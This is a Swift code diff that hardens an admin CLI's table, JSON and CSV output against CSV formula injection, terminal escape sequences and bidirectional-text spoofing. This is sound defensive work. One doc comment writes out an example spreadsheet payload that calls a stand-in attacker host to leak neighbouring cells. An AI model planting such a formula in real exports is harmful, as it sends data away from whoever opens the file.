@@ -3,43 +3,122 @@ import AuthService
 import Foundation
 
 /// `--format table|json|csv` for list commands.
+///
+/// The values come from strangers (user agents, addresses, request ids, usernames stored
+/// under an older rule) and land in an admin's terminal or spreadsheet, so every format
+/// renders them so that they cannot act there: CSV cells cannot start a formula, the table
+/// shows control characters instead of sending them to the terminal, and JSON escapes them.
 enum OutputFormat: String, ExpressibleByArgument, CaseIterable {
     case table, json, csv
 
     /// Renders rows under `columns`. JSON is one array of objects with the columns as keys;
     /// CSV has a header row and RFC 4180 quoting; a table is aligned for a terminal.
-    /// - Parameter numericColumns: columns written as JSON numbers rather than strings.
+    /// - Parameter numericColumns: columns written as JSON numbers rather than strings, and
+    ///   left as they are in CSV when they hold a number.
     func render(columns: [String], rows: [[String]], numericColumns: Set<String> = []) -> String {
         switch self {
         case .json:
             let objects = rows.map { row in
                 "{"
                     + zip(columns, row).map { column, value in
-                        "\(WireBody.quoted(column)):\(numericColumns.contains(column) ? value : WireBody.quoted(value))"
+                        "\(Self.jsonString(column)):\(numericColumns.contains(column) ? value : Self.jsonString(value))"
                     }.joined(separator: ",") + "}"
             }
             return "[" + objects.joined(separator: ",\n") + "]\n"
         case .csv:
-            return ([columns] + rows).map { $0.map(Self.csvField).joined(separator: ",") }.joined(separator: "\n")
-                + "\n"
+            let header = columns.map { Self.csvField($0, numeric: false) }.joined(separator: ",")
+            let lines = rows.map { row in
+                zip(columns, row).map { Self.csvField($1, numeric: numericColumns.contains($0)) }
+                    .joined(separator: ",")
+            }
+            return ([header] + lines).joined(separator: "\n") + "\n"
         case .table:
             let all = [columns.map { $0.uppercased() }] + rows.map { $0.map(Self.printable) }
+            // Widths and padding count the characters printed (after `printable`), not UTF-16
+            // units as Foundation's `padding(toLength:)` would.
             let widths = columns.indices.map { column in all.map { $0[column].count }.max() ?? 0 }
             return all.map { row in
-                zip(row, widths).map { $0.padding(toLength: $1, withPad: " ", startingAt: 0) }
+                zip(row, widths).map { $0 + String(repeating: " ", count: $1 - $0.count) }
                     .joined(separator: "  ").trimmingTrailingSpaces()
             }.joined(separator: "\n") + "\n"
         }
     }
 
-    private static func csvField(_ value: String) -> String {
+    // MARK: CSV
+
+    /// Characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection):
+    /// `=HYPERLINK("//evil.example/x?"&A1,"x")` in a user agent would otherwise send the
+    /// neighbouring cells away when the admin opens the export.
+    static let formulaTriggers: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]
+
+    /// One CSV field. A text starting with a formula trigger gets a leading `'` (which
+    /// spreadsheets take as "this is text") and is quoted, as OWASP advises; a number in a
+    /// numeric column is left alone, so `count` and `id` stay numbers. Otherwise RFC 4180
+    /// quoting: only fields with commas, quotes or line breaks are quoted.
+    static func csvField(_ value: String, numeric: Bool) -> String {
+        let isNumber = numeric && Int64(value) != nil
+        if !isNumber, let first = value.unicodeScalars.first, formulaTriggers.contains(first) {
+            return "\"'" + value.replacingOccurrences(of: "\"", with: "\"\"") + "\""
+        }
         guard value.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }) else { return value }
         return "\"" + value.replacingOccurrences(of: "\"", with: "\"\"") + "\""
     }
 
-    /// Control characters would break the table's alignment (or the terminal).
-    private static func printable(_ value: String) -> String {
-        String(value.unicodeScalars.map { $0.value < 0x20 || $0.value == 0x7f ? "?" : Character($0) })
+    // MARK: Table
+
+    /// Control characters a terminal would act on rather than show: every C0 and C1 control
+    /// and DEL (general category Cc: U+009B is an 8-bit CSI, a whole escape sequence), and
+    /// the bidirectional controls, which reorder what follows them on screen (U+202E makes
+    /// `gpj.exe` read as `exe.jpg`).
+    static func isTerminalControl(_ scalar: Unicode.Scalar) -> Bool {
+        switch scalar.value {
+        case 0x00...0x1F, 0x7F...0x9F: true  // Cc
+        case 0x061C, 0x200E, 0x200F, 0x202A...0x202E, 0x2066...0x2069: true  // bidi controls
+        default: false
+        }
+    }
+
+    /// `value` with each terminal control shown as `<U+XXXX>`: visible, so the admin sees
+    /// that something was there and what, and harmless, so alignment and the terminal stay
+    /// intact.
+    static func printable(_ value: String) -> String {
+        guard value.unicodeScalars.contains(where: isTerminalControl) else { return value }
+        var out = String.UnicodeScalarView()
+        for scalar in value.unicodeScalars {
+            if isTerminalControl(scalar) {
+                out.append(contentsOf: codePoint(scalar).unicodeScalars)
+            } else {
+                out.append(scalar)
+            }
+        }
+        return String(out)
+    }
+
+    private static func codePoint(_ scalar: Unicode.Scalar) -> String {
+        let hex = String(scalar.value, radix: 16, uppercase: true)
+        return "<U+" + String(repeating: "0", count: max(0, 4 - hex.count)) + hex + ">"
+    }
+
+    // MARK: JSON
+
+    /// A JSON string as the wire format writes it, with C1 and bidirectional controls also
+    /// written as `\uXXXX` escapes (WireBody passes them through as UTF-8, which is valid
+    /// JSON but reaches the terminal of whoever reads the output). The decoded value is the
+    /// same text.
+    static func jsonString(_ value: String) -> String {
+        let quoted = WireBody.quoted(value)
+        guard quoted.unicodeScalars.contains(where: isTerminalControl) else { return quoted }
+        var out = ""
+        for scalar in quoted.unicodeScalars {
+            // C0 controls are already escaped by WireBody; what is left here is C1, DEL and bidi.
+            if isTerminalControl(scalar) {
+                let hex = String(scalar.value, radix: 16)
+                out += "\\u" + String(repeating: "0", count: 4 - hex.count) + hex
+            } else {
+                out.unicodeScalars.append(scalar)
+            }
+        }
+        return out
     }
 }
 
